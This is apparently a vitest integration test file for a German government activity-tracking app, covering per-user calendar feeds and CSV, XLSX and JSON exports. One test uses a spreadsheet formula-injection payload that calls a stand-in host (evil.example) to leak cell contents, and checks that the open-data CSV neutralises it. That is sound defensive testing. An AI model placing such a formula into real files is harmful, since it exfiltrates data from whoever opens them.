import ExcelJS from 'exceljs';
import ICAL from 'ical.js';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Actor, operator } from '../../core/access/actor.ts';
import type { ActivityInput } from '../../core/activities/activity-input.ts';
import { cancelActivity, createActivity, updateActivity } from '../../core/activities/activity-use-cases.ts';
import { createCalendarFeed, revokeCalendarFeed } from '../../core/calendar/calendar-feeds.ts';
import type { DatabaseHandle } from '../../db/client.ts';
import * as t from '../../db/schema.ts';
import { withActivityStore } from '../../db/activities/activity.store.ts';
import { withCalendarFeedStore } from '../../db/calendar/calendar-feed.store.ts';
import { buildApp } from '../../server/app.ts';
import { createTestDatabase, engines } from '../setup/test-database.ts';
import { buildUser, type TestUser } from '../support/users.ts';
import { testClock } from '../support/clock.ts';

type Viewer = 'coordinator' | 'ministry_editor' | 'reader' | 'stakeholder';
const base: ActivityInput = {
  kind: 'delegation_trip',
  organiser: 'SMWK',
  places: 'PL-DS',
  status: 'planned',
  visibility: 'public',
};

describe.each(engines)('downloads and calendar feeds on %s', (engine) => {
  let handle: DatabaseHandle;
  let app: FastifyInstance;
  const users = {} as Record<Viewer, TestUser>;
  const actors = {} as Record<Viewer, Actor>;
  const ids = { public: 0, internal: 0, restricted: 0, month: 0 };
  const coordinator = operator('test');

  const create = (input: ActivityInput) =>
    withActivityStore(handle.db, coordinator, testClock.now(), (store) =>
      createActivity({ store, actor: coordinator, input }),
    );
  const get = (url: string, viewer?: Viewer) =>
    app.inject({ method: 'GET', url, headers: viewer ? { cookie: users[viewer].cookie } : {} });

  beforeAll(async () => {
    handle = await createTestDatabase(engine);
    app = await buildApp({ services: { db: handle.db, clock: testClock }, rateLimit: false });
    const orgs: Record<Viewer, string> = {
      coordinator: 'SK',
      ministry_editor: 'SMWK',
      reader: 'SMI',
      stakeholder: 'IHK',
    };
    for (const [role, org] of Object.entries(orgs) as [Viewer, string][]) {
      users[role] = await buildUser(handle.db, role, org, `${role}.${engine}@test.sachsen.de`);
      actors[role] = {
        kind: 'user',
        userId: users[role].id,
        label: users[role].email,
        role,
        organisationId: users[role].organisationId,
      };
    }
    ids.public = (
      await create({
        ...base,
        title: 'Feed: öffentlich =SUMME(1)',
        startsOn: '2027-05-12',
        endsOn: '2027-05-13',
        budgetPlanned: '12.500,50',
      })
    ).id;
    ids.internal = (
      await create({ ...base, title: 'Feed: intern', startsOn: '2027-06-01', visibility: 'internal' })
    ).id;
    ids.restricted = (
      await create({ ...base, title: 'Feed: eingeschränkt', startsOn: '2027-07-01', visibility: 'restricted' })
    ).id;
    ids.month = (await create({ ...base, title: 'Feed: nur Monat', startsOn: '2027-08' })).id;
  });
  afterAll(async () => {
    await app?.close();
    await handle?.close();
  });

  const ownFeed = async (viewer: Viewer) =>
    withCalendarFeedStore(handle.db, actors[viewer], testClock.now(), (store) =>
      createCalendarFeed({ store, actor: actors[viewer] }),
    );
  const events = async (url: string) => {
    const res = await get(url);
    expect(res.statusCode, url).toBe(200);
    expect(res.headers['content-type']).toBe('text/calendar; charset=utf-8');
    const calendar = new ICAL.Component(ICAL.parse(res.body));
    return calendar
      .getAllSubcomponents('vevent')
      .map((e) => new ICAL.Event(e))
      .filter((e) => e.summary.includes('Feed: '));
  };

  describe('the calendar feeds', () => {
    it('list exactly what the feed’s user may see, known to the day, and the public feed only public ones', async () => {
      const expected: Record<Viewer | 'public', string[]> = {
        public: ['Feed: öffentlich =SUMME(1)'],
        stakeholder: ['Feed: öffentlich =SUMME(1)'],
        reader: ['Feed: öffentlich =SUMME(1)', 'Feed: intern'],
        ministry_editor: ['Feed: öffentlich =SUMME(1)', 'Feed: intern', 'Feed: eingeschränkt'],
        coordinator: ['Feed: öffentlich =SUMME(1)', 'Feed: intern', 'Feed: eingeschränkt'],
      };
      expect((await events('/kalender/oeffentlich.ics')).map((e) => e.summary)).toEqual(expected.public);
      // A session does not widen the public feed.
      const asCoordinator = await get('/kalender/oeffentlich.ics', 'coordinator');
      expect(asCoordinator.body).not.toContain('Feed: intern');
      for (const viewer of Object.keys(users) as Viewer[]) {
        const { token } = await ownFeed(viewer);
        expect(
          (await events(`/kalender/${token}.ics`)).map((e) => e.summary),
          viewer,
        ).toEqual(expected[viewer]);
      }
    });

    it('describes each event by RFC 5545: UID, SEQUENCE, all-day dates with an exclusive end, status, class', async () => {
      const { token } = await ownFeed('reader');
      const res = await get(`/kalender/${token}.ics`);
      expect(res.headers['cache-control']).toBe('private, no-store');
      const [trip, internal] = await events(`/kalender/${token}.ics`);
      expect(trip!.uid).toBe(`activity-${ids.public}@localhost`);
      expect(trip!.sequence).toBe(0);
      expect(trip!.startDate.isDate).toBe(true);
      expect(trip!.startDate.toString()).toBe('2027-05-12');
      expect(trip!.endDate.toString()).toBe('2027-05-14');
      expect(trip!.location).toBe('Niederschlesien');
      expect(trip!.component.getFirstPropertyValue('status')).toBe('TENTATIVE');
      expect(trip!.component.getFirstPropertyValue('class')).toBe('PUBLIC');
      expect(trip!.component.getFirstPropertyValue('url')).toBe(`http://localhost/aktivitaeten/${ids.public}`);
      expect(internal!.component.getFirstPropertyValue('class')).toBe('PRIVATE');
      expect(res.body).toMatch(/BEGIN:VTIMEZONE\r\nTZID:Europe\/Berlin/);
      for (const line of res.body.split('\r\n')) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
      const [row] = await handle.db.select().from(t.calendarFeeds).where(eq(t.calendarFeeds.userId, users.reader.id));
      expect(row!.lastUsedAt).toBeInstanceOf(Date);
      expect(row!.tokenHash).toMatch(/^[0-9a-f]{64}$/);
      expect(row!.tokenHash).not.toContain(token);
    });

    it('raises SEQUENCE with every change a calendar shows (title, dates, places, status), not with others', async () => {
      const id = (await create({ ...base, title: 'Feed: Folge', startsOn: '2027-09-01' })).id;
      const sequence = async () =>
        (await events('/kalender/oeffentlich.ics')).find((e) => e.uid === `activity-${id}@localhost`);
      const update = (input: ActivityInput) =>
        withActivityStore(handle.db, coordinator, testClock.now(), (store) =>
          updateActivity({ store, actor: coordinator, id, input }),
        );
      const input = { ...base, title: 'Feed: Folge', startsOn: '2027-09-01' };
      expect((await sequence())!.sequence).toBe(0);
      await update({ ...input, description: 'nur die Beschreibung' });
      expect((await sequence())!.sequence).toBe(0);
      await update({ ...input, title: 'Feed: Folge verschoben', startsOn: '2027-09-02' });
      expect((await sequence())!.sequence).toBe(1);
      await update({ ...input, title: 'Feed: Folge verschoben', startsOn: '2027-09-02', places: 'PL-DS, CZ' });
      expect((await sequence())!.sequence).toBe(2);
      await withActivityStore(handle.db, coordinator, testClock.now(), (store) =>
        cancelActivity({ store, actor: coordinator, id, reason: 'entfällt' }),
      );
      const cancelled = (await sequence())!;
      expect(cancelled.sequence).toBe(3);
      expect(cancelled.component.getFirstPropertyValue('status')).toBe('CANCELLED');
    });

    it('answers 404 for a revoked, unknown or malformed token and for a disabled user', async () => {
      const { id, token } = await ownFeed('ministry_editor');
      expect((await get(`/kalender/${token}.ics`)).statusCode).toBe(200);
      await withCalendarFeedStore(handle.db, actors.ministry_editor, testClock.now(), (store) =>
        revokeCalendarFeed({ store, actor: actors.ministry_editor, id }),
      );
      expect((await get(`/kalender/${token}.ics`)).statusCode).toBe(404);
      expect((await get(`/kalender/${'A'.repeat(43)}.ics`)).statusCode).toBe(404);
      expect((await get('/kalender/nichts.ics')).statusCode).toBe(404);
      await expect(
        withCalendarFeedStore(handle.db, actors.reader, testClock.now(), (store) =>
          revokeCalendarFeed({ store, actor: actors.reader, id }),
        ),
      ).rejects.toMatchObject({ code: 'NOT_FOUND' });
      const own = await ownFeed('stakeholder');
      await handle.db.update(t.users).set({ disabledAt: testClock.now() }).where(eq(t.users.id, users.stakeholder.id));
      expect((await get(`/kalender/${own.token}.ics`)).statusCode).toBe(404);
      const audit = await handle.db.select().from(t.auditLog).where(eq(t.auditLog.entityType, 'calendar_feed'));
      expect(audit.map((a) => a.action)).toContain('calendar_feed.revoke');
    });
  });

  describe('the list downloads', () => {
    it('give the activities for German Excel with the page’s filters and the reader’s visibility', async () => {
      const res = await get('/aktivitaeten/export?format=excel&year=2027&seite=2');
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe('attachment; filename="aktivitaeten-2026-11-21-excel.csv"');
      expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const records: string[][] = parse(res.body.slice(1), { delimiter: ';' });
      expect(records[0]!.slice(0, 6)).toEqual(['Nr.', 'Titel', 'Art', 'Beginn', 'Ende', 'Status']);
      const titles = records.slice(1).map((r) => r[1]);
      expect(titles).toContain('Feed: öffentlich =SUMME(1)');
      expect(titles).toContain('Feed: nur Monat');
      expect(titles).not.toContain('Feed: intern');
      const trip = records.find((r) => r[0] === String(ids.public))!;
      expect(trip.slice(3, 5)).toEqual(['12.05.2027', '13.05.2027']);
      expect(trip[12]).toBe('12500,50');
      expect(records.find((r) => r[0] === String(ids.month))![3]).toBe('08.2027');
      const internal = await get('/aktivitaeten/export?format=excel&year=2027', 'reader');
      expect(internal.body).toContain('Feed: intern');
      expect(internal.body).not.toContain('Feed: eingeschränkt');
    });

    it('neutralise formula starts in the open-data CSV and keep them in the raw CSV for programs', async () => {
      const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")';
      const id = (await create({ ...base, title: formula, startsOn: '2027-10-01' })).id;
      const titleOf = async (format: string) => {
        const res = await get(`/aktivitaeten/export?format=${format}&year=2027`);
        expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
        const records: string[][] = parse(res.body, { columns: false });
        return { title: records.find((r) => r[0] === String(id))![1], res };
      };
      expect((await titleOf('csv')).title).toBe(`'${formula}`);
      const raw = await titleOf('csv-raw');
      expect(raw.title).toBe(formula);
      expect(raw.res.headers['content-disposition']).toBe('attachment; filename="aktivitaeten-2026-11-21-raw.csv"');
    });

    it('give open-data CSV, XLSX and JSON of the same rows', async () => {
      const csv = await get('/aktivitaeten/export?format=csv&year=2027');
      expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
      expect(csv.body.startsWith('id,title,kind,startsOn,endsOn,status,')).toBe(true);
      const records: string[][] = parse(csv.body, { columns: false });
      const trip = records.find((r) => r[0] === String(ids.public))!;
      expect(trip.slice(2, 6)).toEqual(['delegation_trip', '2027-05-12', '2027-05-13', 'planned']);

      const json = await get('/aktivitaeten/export?format=json&year=2027&lang=en');
      expect(json.headers['content-type']).toBe('application/json; charset=utf-8');
      expect(json.headers['content-disposition']).toBe('attachment; filename="activities-2026-11-21.json"');
      const doc = json.json() as { columns: { header: string }[]; data: Record<string, unknown>[] };
      expect(doc.columns[1]!.header).toBe('Title');
      expect(doc.data.find((a) => a.id === ids.month)).toMatchObject({ startsOn: '2027-08', kind: 'delegation_trip' });
      expect(doc.data.find((a) => a.id === ids.public)).toMatchObject({
        budgetPlannedEur: 12500.5,
        places: ['PL-02'],
      });

      const xlsx = await get('/aktivitaeten/export?format=xlsx&year=2027');
      expect(xlsx.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(
        xlsx.rawPayload.buffer.slice(
          xlsx.rawPayload.byteOffset,
          xlsx.rawPayload.byteOffset + xlsx.rawPayload.byteLength,
        ) as ArrayBuffer,
      );
      const sheet = workbook.worksheets[0]!;
      const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(1).value === ids.public)!;
      expect(row.getCell(4).value).toEqual(new Date(Date.UTC(2027, 4, 12)));
      expect(row.getCell(13).value).toBe(12500.5);
    });

    it('give the partnerships with their filters, and refuse an unknown format', async () => {
      await handle.db.update(t.partnerships).set({ visibility: 'internal' }).where(eq(t.partnerships.key, 'tatarstan'));
      const open = (await get('/partnerschaften/export?format=json&status=dormant')).json() as {
        data: { key: string }[];
      };
      expect(open.data.map((p) => p.key)).toEqual(['baschkortostan', 'st-petersburg']);
      const internal = (await get('/partnerschaften/export?format=json&status=dormant', 'reader')).json() as {
        data: { key: string; status: string }[];
      };
      expect(internal.data.map((p) => [p.key, p.status])).toEqual([
        ['baschkortostan', 'dormant'],
        ['st-petersburg', 'dormant'],
        ['tatarstan', 'dormant'],
      ]);
      const excel = await get('/partnerschaften/export?format=excel&country=IT');
      expect(excel.body).toContain('Latium');
      expect(excel.headers['content-disposition']).toBe('attachment; filename="partnerschaften-2026-11-21-excel.csv"');
      const template = await get('/aktivitaeten/import/vorlage?format=excel', 'ministry_editor');
      expect(template.headers['content-disposition']).toBe(
        'attachment; filename="vorlage-aktivitaeten-2026-11-21-excel.csv"',
      );
      expect(template.body.split('\r\n')[0]).toBe(
        '\uFEFFArt;Titel;Beschreibung;Beginn;Ende;Veranstalter;Partnerschaft;Arbeitsgruppe;Orte;Beteiligte;Sektoren;Instrumente;Ziele;Maßnahmen;Status;Sichtbarkeit;Budget geplant (Euro);Budget tatsächlich (Euro);Ergebnis',
      );
      expect((await get('/aktivitaeten/import/vorlage?format=xlsx')).statusCode).toBe(302);
      const bad = await get('/aktivitaeten/export?format=pdf');
      expect(bad.statusCode).toBe(400);
      expect(bad.body).toContain('format=excel');
    });

    it('carry the instruments, goals and measures an activity serves, as the import reads them back', async () => {
      const { id } = await create({
        ...base,
        title: 'Messe mit Strategiebezug',
        startsOn: '2028-03-02',
        instruments: ['III', 'II'],
        goals: ['Z3'],
        measures: 'III-05',
      });
      const json = (await get('/aktivitaeten/export?format=json&year=2028')).json() as {
        data: Record<string, unknown>[];
      };
      expect(json.data.find((a) => a.id === id)).toMatchObject({
        instruments: ['II', 'III'],
        goals: ['Z3'],
        measures: ['III-05'],
        workingGroup: null,
      });
      const excel = await get('/aktivitaeten/export?format=excel&year=2028');
      const rows = parse(excel.body.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Record<
        string,
        string
      >[];
      expect(rows.find((r) => r['Titel'] === 'Messe mit Strategiebezug')).toMatchObject({
        'Instrumente der Strategie': 'II; III',
        'Maßnahmen der Strategie': 'III-05',
      });
    });

    it('give the agreements with their validity today, and the measures without internal notes for the public', async () => {
      const agreements = await get('/vereinbarungen/export?format=excel&validity=expired');
      expect(agreements.headers['content-disposition']).toBe(
        'attachment; filename="vereinbarungen-2026-11-21-excel.csv"',
      );
      const rows = parse(agreements.body.replace(/^\uFEFF/, ''), { delimiter: ';', columns: true }) as Record<
        string,
        string
      >[];
      const mou = rows.find((r) => r['Schlüssel'] === 'lazio-2021')!;
      expect(mou).toMatchObject({
        'Gültigkeit heute': 'abgelaufen',
        'Läuft ab': '04.10.2026',
        Unterzeichnet: '04.10.2021',
      });
      expect(rows.every((r) => r['Gültigkeit heute'] === 'abgelaufen')).toBe(true);

      const note = 'Vorbereitung der Messe läuft';
      await handle.db
        .update(t.measures)
        .set({ status: 'in_progress', statusNote: note, statusUpdatedAt: testClock.now() })
        .where(eq(t.measures.key, 'V-02'));
      const open = (await get('/massnahmen/export?format=json&instrument=V')).json() as {
        data: Record<string, unknown>[];
      };
      const v02 = open.data.find((m) => m.key === 'V-02')!;
      expect(v02).toMatchObject({ status: 'in_progress', progressPercent: 50 });
      expect(JSON.stringify(open.data)).not.toContain(note);
      expect(open.data.every((m) => String(m.key).startsWith('V-'))).toBe(true);
      const internal = (await get('/massnahmen/export?format=json&instrument=V', 'reader')).json() as {
        data: Record<string, unknown>[];
      };
      expect(internal.data.find((m) => m.key === 'V-02')).toMatchObject({ statusNote: note });
    });
  });
});
